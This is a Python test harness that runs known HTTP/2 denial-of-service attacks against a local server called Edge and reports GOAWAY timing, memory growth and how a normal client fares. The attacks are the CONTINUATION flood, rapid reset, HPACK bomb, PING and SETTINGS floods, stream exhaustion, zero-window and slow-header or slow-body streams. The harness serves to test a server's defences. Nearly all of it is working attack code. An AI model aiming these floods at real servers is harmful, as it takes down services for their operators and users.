#!/usr/bin/env python3
"""An HTTP/2 client that attacks Edge the way the published denial-of-service attacks do, and reports what happened.

It opens a TLS connection with ALPN h2, makes one ordinary request (stream 1) and waits for its response, then sends
one attack without end: it keeps sending after Edge's GOAWAY, as an attacker would, and reports whether and when the
connection was closed, how many bytes Edge still took in after its GOAWAY, how far Edge's RSS grew, and how a
well-behaved client on other connections fared meanwhile. Standard library only (ssl.MemoryBIO), one JSON line out.

    h2_attack.py PORT ATTACK EDGE_PID [SECONDS]

ATTACK: continuation, continuation-tiny, hpack-bomb, rapid-reset, settings-flood, ping-flood, too-many-streams: one
connection that goes on after the GOAWAY. The others report in their own shape:

    h2_attack.py PORT rapid-reset-reconnect PID SECONDS     several connections, reconnecting after each GOAWAY
    h2_attack.py PORT zero-window PID [HOLD [PATH]]         100 streams for PATH (/static/big.bin) with a window of 0:
                                                            RSS per stream, then HOLD seconds waiting for resets
    h2_attack.py PORT trickled-bodies PID SECONDS INTERVAL [PATH]
                                                            100 request bodies, a byte per stream every INTERVAL
    h2_attack.py PORT slow-head PID SECONDS                 a HEADERS frame, a byte a second

The well-behaved client that runs meanwhile connects from 127.0.0.2, so limits per client address do not count it
with the attacker (127.0.0.1).
"""
import json
import os
import select
import socket
import ssl
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
WELL_BEHAVED = ("127.0.0.2", 0)


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def hpack_int(value, prefix_bits, flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = bytearray([flags | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value, indexed=False):
    """A literal field with a new name, no Huffman coding; `indexed` adds it to the dynamic table."""
    name, value = name.encode(), value.encode()
    return (b"\x40" if indexed else b"\x00") + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path="/static/a.txt", method="GET"):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")]
    return b"".join(literal(n, v) for n, v in fields)


def attack_chunks(kind):
    """Endless chunks of attack frames, each about 64 KiB."""
    stream = 3
    if kind in ("continuation", "continuation-tiny"):
        # CVE-2024-27316: a header block that never ends, in big CONTINUATION frames or in empty ones.
        yield frame(HEADERS, END_STREAM, stream, request_block())
        piece = frame(CONTINUATION, 0, stream, b"a" * 16384) if kind == "continuation" else frame(CONTINUATION, 0, stream)
        while True:
            yield piece * max(1, 65536 // len(piece))
    elif kind == "hpack-bomb":
        # One 4 KB field in the dynamic table, then a frame of one-byte references to it: 16 KB in, 64 MB out.
        table_entry = literal("x-bomb", "a" * 4000, indexed=True)
        while True:
            block = request_block() + table_entry + b"\xbe" * (16000 - len(table_entry))
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
            stream += 2
    elif kind == "rapid-reset":
        # CVE-2023-44487: open a stream and cancel it at once, for ever.
        block = request_block()
        while True:
            chunk = bytearray()
            for _ in range(1000):
                chunk += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                chunk += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                stream += 2
            yield bytes(chunk)
    elif kind == "too-many-streams":
        # Streams opened and never finished (a POST whose body never comes), far past SETTINGS_MAX_CONCURRENT_STREAMS.
        block = request_block(method="POST") + literal("content-length", "5")
        while True:
            chunk = bytearray()
            for _ in range(200):
                chunk += frame(HEADERS, END_HEADERS, stream, block)
                stream += 2
            yield bytes(chunk)
    elif kind == "settings-flood":
        while True:
            yield frame(SETTINGS, 0, 0) * 7000
    elif kind == "ping-flood":
        while True:
            yield frame(PING, 0, 0, b"12345678") * 3500
    else:
        raise SystemExit(f"unknown attack {kind}")


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


class WellBehavedClient(threading.Thread):
    """Fetches a small file over new HTTPS/1.1 connections, one after another, while the attack runs."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.ok, self.failed, self.stop = port, 0, 0, threading.Event()
        self.failures = []

    def finish(self):
        """Edge goes on serving others: waits for a few more requests after the attack, whatever its outcome."""
        served, wait_until = self.ok, time.monotonic() + 10
        while self.ok < served + 3 and time.monotonic() < wait_until:
            time.sleep(0.05)
        self.stop.set()
        self.join(15)

    def run(self):
        context = ssl._create_unverified_context()
        request = b"GET /static/a.txt HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
        while not self.stop.is_set():
            try:
                # Another address than the attacker's, so that limits per client address do not count it with it.
                with socket.create_connection(("127.0.0.1", self.port), timeout=10, source_address=WELL_BEHAVED) as raw:
                    with context.wrap_socket(raw, server_hostname="localhost") as tls:
                        tls.sendall(request)
                        answer = b""
                        while chunk := tls.recv(65536):
                            answer += chunk
                if answer.startswith(b"HTTP/1.1 200"):
                    self.ok += 1
                else:
                    self.failed += 1
                    self.failures.append(answer[:40].decode(errors="replace"))
            except (OSError, ssl.SSLError) as error:
                self.failed += 1
                self.failures.append(str(error))
            self.stop.wait(0.05)


class Connection:
    """TLS over a non-blocking socket through memory BIOs, so sending never waits for reading and vice versa."""

    def __init__(self, port):
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(["h2"])
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname="localhost")
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.pending = b""  # ciphertext not yet taken by the socket
        self.plaintext = bytearray()
        self.closed = False
        self.ciphertext_sent = 0
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.flush_blocking()
                select.select([self.sock], [], [], 5)
                self.receive()
                if self.closed:
                    raise ConnectionRefusedError("closed before the TLS handshake ended")
        self.flush_blocking()
        if self.tls.selected_alpn_protocol() != "h2":
            raise SystemExit("h2 was not negotiated")

    def flush_blocking(self):
        self.pending += self.outgoing.read()
        while self.pending and not self.closed:
            select.select([], [self.sock], [], 5)
            self.send_some()

    def queue(self, data):
        self.tls.write(data)
        self.pending += self.outgoing.read()

    def send_some(self):
        try:
            taken = self.sock.send(self.pending[:1 << 20])
            self.pending = self.pending[taken:]
            self.ciphertext_sent += taken
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True

    def receive(self):
        try:
            data = self.sock.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        self.incoming.write(data)
        while True:
            try:
                self.plaintext += self.tls.read(1 << 20)
            except (ssl.SSLWantReadError, ssl.SSLZeroReturnError):
                break
            except ssl.SSLError:
                self.closed = True
                break

    def drain(self):
        """Reads what arrived before the connection closed (a GOAWAY that came while the client was not reading)."""
        self.sock.setblocking(True)
        self.sock.settimeout(1)
        self.closed = False
        while not self.closed:
            try:
                data = self.sock.recv(1 << 20)
            except OSError:
                break
            if not data:
                break
            self.incoming.write(data)
            try:
                while True:
                    self.plaintext += self.tls.read(1 << 20)
            except ssl.SSLError:
                pass
        self.closed = True

    def frames(self):
        while len(self.plaintext) >= 9:
            length = int.from_bytes(self.plaintext[:3], "big")
            if len(self.plaintext) < 9 + length:
                break
            kind, flags = self.plaintext[3], self.plaintext[4]
            stream = int.from_bytes(self.plaintext[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.plaintext[9:9 + length])
            del self.plaintext[:9 + length]
            yield kind, flags, stream, payload


def zero_window(port, pid, path, hold, streams=100):
    """Responses that cannot be sent: what Edge holds for each while the client's window stays shut."""
    connection = Connection(port)
    initial_window_zero = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")
    connection.queue(PREFACE + frame(SETTINGS, 0, 0, initial_window_zero))
    connection.flush_blocking()
    rss_start = rss_kb(pid)
    for index in range(streams):
        connection.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * index, request_block(path)))
    # A PING after the requests: its answer comes once Edge has handled all of them.
    connection.queue(frame(PING, 0, 0, b"settled!"))
    connection.flush_blocking()
    heads, settled, deadline = 0, False, time.monotonic() + 20
    while not settled and not connection.closed and time.monotonic() < deadline:
        select.select([connection.sock], [], [], 0.5)
        connection.receive()
        for kind, flags, _, payload in connection.frames():
            if kind == SETTINGS and not flags & ACK:
                connection.queue(frame(SETTINGS, ACK, 0))
            heads += kind == HEADERS
            settled = settled or (kind == PING and flags & ACK and payload == b"settled!")
        connection.flush_blocking()
    growth = rss_kb(pid) - rss_start
    report = {"streams": streams, "heads": heads, "settled": settled, "rss_growth_kb": growth,
              "per_stream_kb": round(growth / streams, 1)}
    if hold:
        # Still never opening the window: Edge gives each response up after `timeouts.send` without progress.
        good = WellBehavedClient(port)
        good.start()
        resets, goaway, deadline = 0, None, time.monotonic() + hold
        while not connection.closed and time.monotonic() < deadline and resets < streams:
            select.select([connection.sock], [], [], 0.2)
            connection.receive()
            for kind, _, _, payload in connection.frames():
                resets += kind == RST_STREAM
                if kind == GOAWAY:
                    goaway = int.from_bytes(payload[4:8], "big")
            connection.flush_blocking()
        report.update({"resets": resets, "goaway_code": goaway, "held_seconds": round(time.monotonic() - deadline + hold, 2)})
        good.stop.set()
        good.join(15)
        report.update({"well_behaved_ok": good.ok, "well_behaved_failed": good.failed})
    print(json.dumps(report))


def reconnecting_rapid_reset(port, pid, seconds, parallel=6):
    """CVE-2023-44487 from a client that obeys each GOAWAY and reconnects at once, on `parallel` connections.

    What bounds it is per client, not per connection: `limits.max_connections_per_ip` refuses the connections over
    the limit, and the route's `rate_limit` refuses the requests over the rate (the test counts them in the access
    log). Reports the connections made and refused, the GOAWAYs by error code, the streams sent, Edge's RSS and CPU.
    """
    totals = {"connections": 0, "refused": 0, "streams": 0, "goaway_codes": {}}
    lock = threading.Lock()
    stop = time.monotonic() + seconds

    def attacker():
        block = request_block()
        stream = 1
        while time.monotonic() < stop:
            try:
                connection = Connection(port)
            except (OSError, ssl.SSLError, ConnectionRefusedError):
                with lock:
                    totals["refused"] += 1
                time.sleep(0.01)
                continue
            with lock:
                totals["connections"] += 1
            connection.queue(PREFACE + frame(SETTINGS, 0, 0))
            stream, streams, code = 1, 0, None
            while code is None and not connection.closed and time.monotonic() < stop:
                if len(connection.pending) < 1 << 16:
                    chunk = bytearray()
                    for _ in range(100):
                        chunk += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                        chunk += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                        stream += 2
                        streams += 1
                    connection.queue(bytes(chunk))
                readable, writable, _ = select.select([connection.sock], [connection.sock], [], 0.05)
                if writable:
                    connection.send_some()
                if readable:
                    connection.receive()
                for kind, _, _, payload in connection.frames():
                    if kind == GOAWAY:
                        code = int.from_bytes(payload[4:8], "big")
            with lock:
                totals["streams"] += streams
                if code is not None:
                    totals["goaway_codes"][str(code)] = totals["goaway_codes"].get(str(code), 0) + 1
            connection.sock.close()

    rss_start, cpu_start, started = rss_kb(pid), cpu_seconds(pid), time.monotonic()
    good = WellBehavedClient(port)
    good.start()
    threads = [threading.Thread(target=attacker, daemon=True) for _ in range(parallel)]
    for thread in threads:
        thread.start()
    rss_max = rss_start
    while any(thread.is_alive() for thread in threads):
        rss_max = max(rss_max, rss_kb(pid))
        time.sleep(0.05)
    elapsed = time.monotonic() - started
    cpu = cpu_seconds(pid) - cpu_start
    good.finish()
    totals.update({
        "seconds": round(elapsed, 2), "edge_cpu_share": round(cpu / elapsed, 2), "rss_start_kb": rss_start,
        "rss_max_kb": rss_max, "well_behaved_ok": good.ok, "well_behaved_failed": good.failed,
        "well_behaved_failures": good.failures[:3],
    })
    print(json.dumps(totals))


def trickled_bodies(port, pid, seconds, interval, path, streams=100):
    """Request bodies sent one byte per stream every `interval` seconds, just under `timeouts.body`, for `seconds`;
    then the odd streams stop while the even ones go on. Reports what each stream got back and Edge's RSS."""
    connection = Connection(port)
    connection.queue(PREFACE + frame(SETTINGS, 0, 0))
    rss_start = rss_kb(pid)
    ids = [1 + 2 * index for index in range(streams)]
    for stream in ids:
        # A GET with a body: the static route reads it to the end and drops it, under `timeouts.body`.
        block = request_block(path) + literal("content-length", "100000")
        connection.queue(frame(HEADERS, END_HEADERS, stream, block))
    connection.flush_blocking()
    good = WellBehavedClient(port)
    good.start()
    answers, resets, rss_max = {}, set(), rss_start
    started = next_trickle = time.monotonic()
    stopped_at = None
    while time.monotonic() < started + 2 * seconds and not connection.closed:
        now = time.monotonic()
        if now >= next_trickle:
            stopping = now - started >= seconds
            stopped_at = stopped_at or (now if stopping else None)
            for stream in ids:
                if stream not in answers and stream not in resets and not (stopping and stream % 4 == 3):
                    connection.queue(frame(DATA, 0, stream, b"x"))
            next_trickle = now + interval
        connection.flush_blocking()
        select.select([connection.sock], [], [], 0.1)
        connection.receive()
        for kind, flags, stream, payload in connection.frames():
            if kind == SETTINGS and not flags & ACK:
                connection.queue(frame(SETTINGS, ACK, 0))
            elif kind == HEADERS:
                answers[stream] = True  # the status is in the access log
            elif kind == RST_STREAM:
                resets.add(stream)
        rss_max = max(rss_max, rss_kb(pid))
        if stopped_at and all(stream in answers or stream in resets for stream in ids if stream % 4 == 3):
            break
    good.stop.set()
    good.join(15)
    stopped = [stream for stream in ids if stream % 4 == 3]
    going = [stream for stream in ids if stream % 4 == 1]
    print(json.dumps({
        "streams": streams, "trickled_seconds": round((stopped_at or time.monotonic()) - started, 2),
        "going_answered": sum(stream in answers or stream in resets for stream in going),
        "stopped_answered": sum(stream in answers for stream in stopped),
        "stopped_reset": sum(stream in resets for stream in stopped),
        "cut_after_seconds": round(time.monotonic() - stopped_at, 2) if stopped_at else None,
        "rss_growth_kb": rss_max - rss_start, "closed": connection.closed,
        "well_behaved_ok": good.ok, "well_behaved_failed": good.failed,
    }))


def slow_head(port, pid, seconds):
    """A HEADERS frame sent one byte a second: reports when Edge cut the connection off, and how others fared."""
    connection = Connection(port)
    connection.queue(PREFACE + frame(SETTINGS, 0, 0))
    connection.flush_blocking()
    # Edge's SETTINGS is acknowledged first: no frame may come between the slow frame's bytes.
    acknowledged, deadline = False, time.monotonic() + 5
    while not acknowledged and time.monotonic() < deadline:
        select.select([connection.sock], [], [], 0.5)
        connection.receive()
        for kind, flags, _, _ in connection.frames():
            if kind == SETTINGS and not flags & ACK:
                connection.queue(frame(SETTINGS, ACK, 0))
                acknowledged = True
    connection.flush_blocking()
    good = WellBehavedClient(port)
    good.start()
    head = frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block())
    started, sent, goaway = time.monotonic(), 0, None
    while not connection.closed and time.monotonic() < started + seconds and sent < len(head):
        connection.queue(head[sent:sent + 1])
        sent += 1
        connection.flush_blocking()
        deadline = time.monotonic() + 1
        while not connection.closed and time.monotonic() < deadline:
            select.select([connection.sock], [], [], max(0, deadline - time.monotonic()))
            connection.receive()
            for kind, flags, _, payload in connection.frames():
                if kind == GOAWAY:
                    goaway = int.from_bytes(payload[4:8], "big")
    good.stop.set()
    good.join(15)
    print(json.dumps({
        "closed": connection.closed, "after_seconds": round(time.monotonic() - started, 1), "bytes_sent": sent,
        "frame_length": len(head), "goaway_code": goaway, "well_behaved_ok": good.ok,
        "well_behaved_failed": good.failed,
    }))


def cpu_seconds(pid):
    """User and system CPU time the process has used."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def main():
    port, attack, pid = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    if attack == "zero-window":
        hold = float(sys.argv[4]) if len(sys.argv) > 4 else 0
        return zero_window(port, pid, sys.argv[5] if len(sys.argv) > 5 else "/static/big.bin", hold)
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 10.0
    if attack == "rapid-reset-reconnect":
        return reconnecting_rapid_reset(port, pid, seconds)
    if attack == "trickled-bodies":
        path = sys.argv[6] if len(sys.argv) > 6 else "/static/a.txt"
        return trickled_bodies(port, pid, seconds, float(sys.argv[5]), path)
    if attack == "slow-head":
        return slow_head(port, pid, seconds)
    report = {"attack": attack, "goaway": None, "goaways": 0, "closed": False}

    connection = Connection(port)
    connection.queue(PREFACE + frame(SETTINGS, 0, 0))
    connection.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block()))
    connection.flush_blocking()
    deadline = time.monotonic() + 10
    answered = False
    while not answered and not connection.closed and time.monotonic() < deadline:
        select.select([connection.sock], [], [], 0.5)
        connection.receive()
        for kind, flags, stream, _ in connection.frames():
            if kind == SETTINGS and not flags & ACK:
                connection.queue(frame(SETTINGS, ACK, 0))
            answered = answered or (stream == 1 and flags & END_STREAM and kind in (HEADERS, DATA))
        connection.flush_blocking()
    report["first_request_answered"] = bool(answered)

    good = WellBehavedClient(port)
    good.start()
    report["rss_start_kb"] = rss_max = rss_kb(pid)
    chunks = attack_chunks(attack)
    # Floods of frames that Edge answers (SETTINGS, PING) work by not reading the answers: the client reads only once
    # it has sent a lot, or once Edge has stopped taking its bytes.
    reads_at_start = attack not in ("settings-flood", "ping-flood")
    plaintext_sent, goaway_at, sent_at_goaway, blocked_since = 0, None, 0, None
    started = time.monotonic()
    while not connection.closed:
        now = time.monotonic()
        if goaway_at is None and now - started > seconds + 5:
            break
        if goaway_at is not None and now - goaway_at > seconds:
            break
        if len(connection.pending) < 1 << 18:
            chunk = next(chunks)
            connection.queue(chunk)
            plaintext_sent += len(chunk)
        reading = reads_at_start or plaintext_sent > 64 << 20 or (blocked_since and now - blocked_since > 0.1)
        readable, writable, _ = select.select([connection.sock] if reading else [], [connection.sock], [], 0.05)
        if writable:
            blocked_since = None
            connection.send_some()
        elif blocked_since is None:
            blocked_since = now
        if readable or connection.closed:
            connection.drain() if connection.closed else connection.receive()
            for kind, _, _, payload in connection.frames():
                if kind == GOAWAY:
                    report["goaways"] += 1
                    if goaway_at is None:
                        goaway_at, sent_at_goaway = time.monotonic(), connection.ciphertext_sent
                        report["goaway"] = {
                            "last_stream_id": int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                            "error_code": int.from_bytes(payload[4:8], "big"),
                            "after_seconds": round(goaway_at - started, 3),
                        }
        rss_max = max(rss_max, rss_kb(pid))
    ended = time.monotonic()
    good.finish()
    report["closed"] = connection.closed
    if goaway_at is not None:
        report["closed_after_goaway_seconds"] = round(ended - goaway_at, 3)
        report["bytes_sent_after_goaway"] = connection.ciphertext_sent - sent_at_goaway
    report["rss_max_kb"] = rss_max
    report["well_behaved_ok"], report["well_behaved_failed"] = good.ok, good.failed
    report["well_behaved_failures"] = good.failures[:3]
    print(json.dumps(report))


if __name__ == "__main__":
    main()
